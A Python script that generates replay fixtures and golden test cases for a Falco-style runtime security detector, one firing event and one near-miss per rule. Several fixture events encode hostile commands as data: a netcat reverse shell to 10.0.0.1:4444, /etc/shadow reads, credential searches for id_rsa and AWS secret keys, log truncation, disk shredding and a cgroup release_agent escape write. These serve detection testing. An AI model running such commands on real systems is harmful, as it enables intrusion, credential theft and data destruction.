#!/usr/bin/env python3
"""gen-fixtures.py - writes tests/replay/<slug>-{fire,nearmiss}.jsonl (one pair per rule of the
stable falco_rules.yaml) and the golden cases tests/golden/cases/watch-<slug>-{fire,nearmiss}.
Fixtures are data: edit them here, rerun, then VIGIL_GOLDEN_UPDATE=1 ctest -R watch- and review."""
import json, os, re

HERE = os.path.dirname(os.path.abspath(__file__))
GOLDEN = os.path.join(HERE, '..', 'golden', 'cases')
T0 = 1704067200000000000          # 2024-01-01T00:00:00Z
CLONE = T0 - 3600 * 10**9         # processes started an hour earlier
CT = {"id": "3ad7b26ded6d", "name": "web", "image": "docker.io/library/nginx:1.25"}
SHIM = {"pid": 100, "exepath": "/usr/bin/containerd-shim", "ppid": 1, "clone_ts": CLONE}

def ev(i, type, proc=None, **kw):
    e = {"type": type, "ts": T0 + i * 10**9}
    if proc is not None:
        p = {"uid": 0, "clone_ts": CLONE}
        p.update(proc)
        e["proc"] = p
    e.update(kw)
    return e

def execve(i, proc, container=CT, **kw):
    e = ev(i, "execve", proc, res=0, **kw)
    if container:
        e["container"] = container
    return e

def openat(i, proc, path, flags="O_RDONLY", raw=None, container=None, num=3, res=None, **kw):
    fd = {"num": num, "name": path}
    if raw:
        fd["nameraw"] = raw
    e = ev(i, "openat", proc, res=num if res is None else res,
           args={"fd": num, "dirfd": -100, "name": raw or path, "flags": flags}, fd=fd, **kw)
    if container:
        e["container"] = container
    return e

R = {}
# -- file reads ---------------------------------------------------------------------------------
R["directory-traversal-monitored-file-read"] = (
    [openat(1, {"pid": 300, "exepath": "/usr/bin/python3", "ppid": 200,
                "ancestors": [{"pid": 200, "exepath": "/usr/sbin/nginx"}]},
            "/etc/passwd", raw="/var/www/../../etc/passwd")],
    [openat(1, {"pid": 300, "exepath": "/usr/bin/python3", "ppid": 200,
                "ancestors": [{"pid": 200, "exepath": "/usr/sbin/nginx"}]},
            "/var/www/html/index.html", raw="/var/www/html/../html/index.html")])
R["read-sensitive-file-trusted-after-startup"] = (
    [openat(1, {"pid": 400, "exepath": "/usr/sbin/nginx"}, "/etc/shadow")],
    [openat(1, {"pid": 400, "exepath": "/usr/sbin/nginx", "clone_ts": T0}, "/etc/shadow")])
R["read-sensitive-file-untrusted"] = (
    [openat(1, {"pid": 500, "exepath": "/usr/bin/python3", "args": ["steal.py"]}, "/etc/shadow")],
    [openat(1, {"pid": 500, "exepath": "/usr/bin/python3", "args": ["steal.py"]}, "/etc/hosts")])
# -- shells -------------------------------------------------------------------------------------
R["run-shell-untrusted"] = (
    [execve(1, {"pid": 601, "exepath": "/bin/sh", "args": ["-c", "id"], "ppid": 600,
                "ancestors": [{"pid": 600, "exepath": "/usr/sbin/nginx"}]}, container=None)],
    [execve(1, {"pid": 601, "exepath": "/bin/sh", "args": ["-c", "id"], "ppid": 600,
                "ancestors": [{"pid": 600, "exepath": "/usr/sbin/cron"}]}, container=None)])
R["system-user-interactive"] = (
    [execve(1, {"pid": 701, "exepath": "/bin/ls", "uid": 33, "user": "www-data", "ppid": 700,
                "ancestors": [{"pid": 700, "exepath": "/bin/bash"},
                              {"pid": 699, "exepath": "/usr/sbin/sshd"}]}, container=None)],
    [execve(1, {"pid": 701, "exepath": "/bin/ls", "uid": 1000, "user": "alice", "ppid": 700,
                "ancestors": [{"pid": 700, "exepath": "/bin/bash"},
                              {"pid": 699, "exepath": "/usr/sbin/sshd"}]}, container=None)])
R["terminal-shell-in-container"] = (
    [execve(1, {"pid": 801, "exepath": "/bin/bash", "tty": 34816, "ppid": 100,
                "ancestors": [SHIM]})],
    [execve(1, {"pid": 801, "exepath": "/bin/bash", "tty": 0, "ppid": 100,
                "ancestors": [SHIM]})])
# -- network ------------------------------------------------------------------------------------
def connect(i, proc, sip, sport, sip_name=None, container=CT, res=0):
    fd = {"num": 5, "cip": "10.1.0.5", "cport": 40000, "sip": sip, "sport": sport,
          "connected": True}
    if sip_name:
        fd["sip_name"] = sip_name
    e = ev(i, "connect", proc, res=res, args={"fd": 5, "addr": "%s:%d" % (sip, sport)}, fd=fd)
    if container:
        e["container"] = container
    return e
R["contact-k8s-api-server-from-container"] = (
    [connect(1, {"pid": 900, "exepath": "/usr/bin/curl"}, "10.96.0.1", 443,
             "kubernetes.default.svc.cluster.local")],
    [connect(1, {"pid": 900, "exepath": "/usr/bin/curl"}, "10.96.0.10", 53,
             "kube-dns.kube-system.svc.cluster.local")])
R["netcat-remote-code-execution-in-container"] = (
    [execve(1, {"pid": 1000, "exepath": "/bin/nc", "args": ["-e", "/bin/sh", "10.0.0.1", "4444"]})],
    [execve(1, {"pid": 1000, "exepath": "/bin/nc", "args": ["-z", "10.0.0.1", "4444"]})])
R["search-private-keys-or-passwords"] = (
    [execve(1, {"pid": 1100, "exepath": "/usr/bin/find", "args": ["/", "-name", "id_rsa"]},
            container=None)],
    [execve(1, {"pid": 1100, "exepath": "/usr/bin/find", "args": ["/", "-name", "*.log"]},
            container=None)])
R["clear-log-activities"] = (
    [openat(1, {"pid": 1200, "exepath": "/usr/bin/truncate"}, "/var/log/syslog",
            flags="O_WRONLY|O_TRUNC")],
    [openat(1, {"pid": 1200, "exepath": "/usr/bin/tee"}, "/var/log/syslog",
            flags="O_WRONLY|O_APPEND")])
R["remove-bulk-data-from-disk"] = (
    [execve(1, {"pid": 1300, "exepath": "/usr/bin/shred", "args": ["-u", "/data/db"]},
            container=None)],
    [execve(1, {"pid": 1300, "exepath": "/bin/rm", "args": ["-f", "/tmp/x"]}, container=None)])
R["create-symlink-over-sensitive-files"] = (
    [ev(1, "symlinkat", {"pid": 1400, "exepath": "/bin/ln"}, res=0,
        args={"target": "/etc/shadow", "linkdirfd": -100, "linkpath": "/tmp/s"})],
    [ev(1, "symlinkat", {"pid": 1400, "exepath": "/bin/ln"}, res=0,
        args={"target": "/etc/hosts", "linkdirfd": -100, "linkpath": "/tmp/s"})])
R["create-hardlink-over-sensitive-files"] = (
    [ev(1, "linkat", {"pid": 1500, "exepath": "/bin/ln"}, res=0,
        args={"olddir": -100, "oldpath": "/etc/shadow", "newdir": -100, "newpath": "/tmp/h"})],
    [ev(1, "linkat", {"pid": 1500, "exepath": "/bin/ln"}, res=0,
        args={"olddir": -100, "oldpath": "/etc/hosts", "newdir": -100, "newpath": "/tmp/h"})])
R["packet-socket-created-in-container"] = (
    [dict(ev(1, "socket", {"pid": 1600, "exepath": "/usr/bin/python3"}, res=3,
             args={"domain": "AF_PACKET", "type": 3, "proto": 768}), container=CT)],
    [dict(ev(1, "socket", {"pid": 1600, "exepath": "/usr/bin/python3"}, res=3,
             args={"domain": "AF_INET", "type": 1, "proto": 6}), container=CT)])
R["redirect-stdout-stdin-to-network-connection-in-container"] = (
    [dict(ev(1, "dup2", {"pid": 1700, "exepath": "/bin/bash"}, res=1,
             args={"oldfd": 3, "newfd": 1},
             fd={"num": 1, "cip": "10.1.0.5", "cport": 40001, "sip": "10.0.0.1", "sport": 4444}),
          container=CT)],
    [dict(ev(1, "dup2", {"pid": 1700, "exepath": "/bin/bash"}, res=1,
             args={"oldfd": 3, "newfd": 1}, fd={"num": 1, "name": "/tmp/out.log"}),
          container=CT)])
R["linux-kernel-module-injection-detected"] = (
    [dict(ev(1, "finit_module", {"pid": 1800, "exepath": "/sbin/insmod",
                                 "cap_effective": 1 << 16}, res=0,
             args={"fd": 3, "flags": 0}), container=CT)],
    [dict(ev(1, "finit_module", {"pid": 1800, "exepath": "/sbin/insmod",
                                 "cap_effective": 1 << 12}, res=0,
             args={"fd": 3, "flags": 0}), container=CT)])
R["debugfs-launched-in-privileged-container"] = (
    [execve(1, {"pid": 1900, "exepath": "/sbin/debugfs", "args": ["/dev/sda1"]},
            container=dict(CT, privileged=True))],
    [execve(1, {"pid": 1900, "exepath": "/sbin/debugfs", "args": ["/dev/sda1"]},
            container=dict(CT, privileged=False))])
R["detect-release-agent-file-container-escapes"] = (
    [openat(1, {"pid": 2000, "exepath": "/bin/sh", "cap_effective": (1 << 21) | (1 << 1)},
            "/tmp/cgrp/release_agent", flags="O_WRONLY", container=CT)],
    [openat(1, {"pid": 2000, "exepath": "/bin/sh", "cap_effective": 1 << 1},
            "/tmp/cgrp/release_agent", flags="O_WRONLY", container=CT)])
R["ptrace-attached-to-process"] = (
    [ev(1, "ptrace", {"pid": 2100, "exepath": "/usr/bin/python3"}, res=0,
        args={"request": "PTRACE_ATTACH", "pid": 1})],
    [ev(1, "ptrace", {"pid": 2100, "exepath": "/usr/bin/python3"}, res=0,
        args={"request": "PTRACE_PEEKDATA", "pid": 1})])
R["ptrace-anti-debug-attempt"] = (
    [ev(1, "ptrace", {"pid": 2200, "exepath": "/tmp/malware"}, res=0,
        args={"request": "PTRACE_TRACEME", "pid": 0})],
    [ev(1, "ptrace", {"pid": 2200, "exepath": "/tmp/malware"}, res=0,
        args={"request": "PTRACE_CONT", "pid": 0})])
R["find-aws-credentials"] = (
    [execve(1, {"pid": 2300, "exepath": "/bin/grep", "args": ["-r", "aws_secret_access_key", "/"]},
            container=None)],
    [execve(1, {"pid": 2300, "exepath": "/bin/grep", "args": ["-r", "ERROR", "/var/log"]},
            container=None)])
R["execution-from-dev-shm"] = (
    [execve(1, {"pid": 2400, "exepath": "/dev/shm/payload", "cwd": "/dev/shm/"}, container=None)],
    [execve(1, {"pid": 2400, "exepath": "/tmp/payload", "cwd": "/tmp/"}, container=None)])
R["drop-and-execute-new-binary-in-container"] = (
    [execve(1, {"pid": 2500, "exepath": "/tmp/dropped", "exe_upper_layer": True})],
    [execve(1, {"pid": 2500, "exepath": "/usr/bin/env", "exe_upper_layer": False})])
R["disallowed-ssh-connection-non-standard-port"] = (
    [connect(1, {"pid": 2600, "exepath": "/usr/bin/ssh"}, "203.0.113.7", 443, container=None)],
    [connect(1, {"pid": 2600, "exepath": "/usr/bin/ssh"}, "203.0.113.7", 22, container=None)])
R["fileless-execution-via-memfd-create"] = (
    [execve(1, {"pid": 2700, "exepath": "memfd:x", "exe_from_memfd": True}, container=None)],
    [execve(1, {"pid": 2700, "exepath": "/usr/bin/x", "exe_from_memfd": False}, container=None)])

def write_case(name, fixture):
    d = os.path.join(GOLDEN, name)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, 'args'), 'w') as f:
        f.write("watch\n--source\nreplay\n--format\njson\n--hostname\nnode-1\n--rules\n"
                "@SHARED@/corpus/falco-rules/falco_rules.yaml\n--input\n../replay/%s\n" % fixture)
    if not os.path.exists(os.path.join(d, 'exit')):
        with open(os.path.join(d, 'exit'), 'w') as f:
            f.write("0\n")
        open(os.path.join(d, 'stdout'), 'w').close()

for slug, (fire, near) in R.items():
    for kind, lines in (("fire", fire), ("nearmiss", near)):
        fn = "%s-%s.jsonl" % (slug, kind)
        with open(os.path.join(HERE, fn), 'w') as f:
            for l in lines:
                f.write(json.dumps(l, separators=(',', ':')) + "\n")
        write_case("watch-%s-%s" % (slug, kind), fn)
print(len(R), "rules")
